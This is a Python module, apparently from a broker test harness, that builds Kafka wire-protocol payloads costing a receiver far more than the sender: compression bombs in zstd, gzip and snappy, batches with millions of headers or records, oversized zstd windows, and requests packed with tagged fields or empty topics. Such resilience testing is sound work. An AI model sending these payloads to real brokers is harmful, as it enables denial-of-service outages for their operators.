"""Bytes that cost a receiver far more than they cost a sender. Pure: what is built here is sent by `attacks.py`."""

import struct
import zlib

import zstandard

from barnabas.wire.record_batch import BatchHeader, assemble
from barnabas.wire.record_writer import encode_varint
from barnabas.wire.runtime import varint

GZIP, SNAPPY, ZSTD = 1, 2, 4
CHUNK_BYTES = 1 << 20
TIMESTAMP_MS = 1_700_000_000_000


def headers_batch(header_count: int) -> bytes:
    """One record with so many empty headers, compressed by zstd: some hundred bytes for millions."""
    head = b"\x00\x00\x00\x02k\x01" + encode_varint(header_count)  # key "k", value null
    size = encode_varint(len(head) + 2 * header_count)
    return _batch(_zstd_of_zeros(size + head, 2 * header_count), ZSTD)


def tiny_records_batch(record_count: int) -> bytes:
    """So many records of seven bytes, all with the offset of the first."""
    record = b"\x0c\x00\x00\x00\x01\x01\x00"  # length 6, no key, no value, no headers
    compressor = zstandard.ZstdCompressor(level=1).compressobj()
    at_a_time = CHUNK_BYTES // len(record)
    counts = [min(at_a_time, record_count - first) for first in range(0, record_count, at_a_time)]
    pieces = [compressor.compress(record * count) for count in counts]
    return _batch(b"".join(pieces) + compressor.flush(), ZSTD, record_count)


def value_batch(codec: int, value_bytes: int) -> bytes:
    """One record whose value is so many zeros."""
    head = b"\x00\x00\x00\x02k" + encode_varint(value_bytes)
    size = encode_varint(len(head) + value_bytes + 1)
    if codec == ZSTD:
        return _batch(_zstd_of_zeros(size + head, value_bytes + 1), codec)  # the last zero is the number of headers
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    pieces, left, zeros = [compressor.compress(size + head)], value_bytes + 1, bytes(CHUNK_BYTES)
    while left:
        pieces.append(compressor.compress(zeros[:left]))
        left -= min(left, CHUNK_BYTES)
    pieces.append(compressor.flush())
    return _batch(b"".join(pieces), codec)


def window_batch(window_log: int, value_bytes: int) -> bytes:
    """One record of so many zeros, in a frame that has its reader keep a large window of them."""
    options = zstandard.ZstdCompressionParameters(window_log=window_log, strategy=1, chain_log=10, hash_log=10)
    head = b"\x00\x00\x00\x02k" + encode_varint(value_bytes)
    size = encode_varint(len(head) + value_bytes + 1)
    return _batch(_zstd_of_zeros(size + head, value_bytes + 1, options), ZSTD)


def blocks_batch(block_count: int) -> bytes:
    """So many blocks of zstd that hold nothing, three bytes each."""
    return _batch(b"\x28\xb5\x2f\xfd\x00\x50" + bytes(3 * block_count) + b"\x01\x00\x00", ZSTD)


def snappy_blocks_batch(block_count: int) -> bytes:
    """So many blocks of snappy that hold nothing, five bytes each."""
    return _batch(b"\x82SNAPPY\0\0\0\0\x01\0\0\0\x01" + b"\0\0\0\1\0" * block_count, SNAPPY)


def sequenced_batch(producer_id: int, sequence: int, value: bytes) -> bytes:
    """One record with a value of one byte, as an idempotent producer sends it."""
    return _batch(b"\x0e\x00\x00\x00\x01\x02" + value + b"\x00", 0, 1, producer_id, sequence)


def header_tags_frame(count: int) -> bytes:
    """A Metadata request whose header has so many tagged fields."""
    return struct.pack(">hhih", 3, 9, 1, -1) + varint(count) + b"\x05\x00" * count + bytes(5)


def body_tags_frame(count: int) -> bytes:
    """A Metadata request of no topics, with so many tagged fields behind them."""
    return _flexible(3, 9) + b"\x01" + b"\x00\x00\x00" + varint(count) + b"\x05\x00" * count


def empty_topics_frame(count: int) -> bytes:
    """A Produce request of so many topics without partitions."""
    return (
        _flexible(0, 9) + b"\x00" + struct.pack(">hi", 1, 1000) + varint(count + 1) + b"\x01\x01\x00" * count + b"\x00"
    )


def metadata_frame(count: int) -> bytes:
    """A Metadata request of so many topics without a name."""
    return _flexible(3, 9) + varint(count + 1) + b"\x01\x00" * count + b"\x00\x00\x00\x00"


def coordinators_frame(count: int) -> bytes:
    """A FindCoordinator request of so many groups."""
    return _flexible(10, 4) + b"\x00" + varint(count + 1) + b"\x02g" * count + b"\x00"


def _flexible(api_key: int, version: int) -> bytes:
    return struct.pack(">hhih", api_key, version, 1, -1) + b"\x00"


def _batch(section: bytes, codec: int, record_count: int = 1, producer_id: int = -1, base_sequence: int = -1) -> bytes:
    epoch = 0 if producer_id >= 0 else -1
    times = TIMESTAMP_MS, TIMESTAMP_MS
    header = BatchHeader(
        0, 0, -1, 2, 0, codec, record_count - 1, *times, producer_id, epoch, base_sequence, record_count
    )
    return bytes(assemble(header, section))


def _zstd_of_zeros(prefix: bytes, zero_count: int, options: zstandard.ZstdCompressionParameters | None = None) -> bytes:
    level_1 = zstandard.ZstdCompressionParameters.from_level(1)
    compressor = zstandard.ZstdCompressor(compression_params=options or level_1).compressobj()
    pieces, left, zeros = [compressor.compress(prefix)], zero_count, bytes(CHUNK_BYTES)
    while left:
        pieces.append(compressor.compress(zeros[:left]))
        left -= min(left, CHUNK_BYTES)
    pieces.append(compressor.flush())
    return b"".join(pieces)
